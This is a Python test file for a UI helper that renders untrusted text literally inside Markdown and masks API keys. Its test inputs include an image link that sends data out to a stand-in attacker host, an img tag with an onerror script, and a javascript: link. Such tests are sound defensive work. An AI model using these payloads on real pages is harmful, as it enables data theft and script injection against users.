"""Untrusted text shown inside Markdown on the pages (row keys, provider errors) renders as text."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from ui_common import md_text


@pytest.mark.parametrize(
    "payload",
    [
        "![](http://attacker.example/?d=secret)",
        "key`![x](http://attacker.example/)`",
        "<img src=http://attacker.example/x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "**bold** _it_ # heading | table | ~~gone~~ $x$",
    ],
)
def test_markdown_syntax_in_untrusted_text_is_literal(payload):
    html = MarkdownIt().render(f"**Input** {md_text(payload)}")
    assert "<img" not in html and "<a " not in html and "<code>" not in html and "<em>" not in html
    assert html.count("<strong>") == 1  # only the page's own bold label


def test_secrets_are_masked_in_shown_text(monkeypatch):
    monkeypatch.setenv("VENDOR_API_KEY", "vk-live-0123456789")
    assert "vk-live" not in md_text("401: bad key vk-live-0123456789")
